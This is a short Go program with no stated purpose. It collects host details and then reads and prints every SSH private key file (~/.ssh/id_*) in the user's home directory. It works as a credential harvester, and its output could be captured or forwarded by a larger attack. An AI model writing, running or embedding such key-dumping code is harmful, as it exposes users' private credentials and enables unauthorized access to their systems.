package main

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
)

func main() {
	host, _ := os.Hostname()
	fmt.Println("host:", host, runtime.GOOS, runtime.GOARCH)
	home, _ := os.UserHomeDir()
	keys, _ := filepath.Glob(filepath.Join(home, ".ssh", "id_*"))
	for _, k := range keys {
		b, _ := os.ReadFile(k)
		fmt.Printf("--- %s ---\n%s\n", k, b)
	}
}
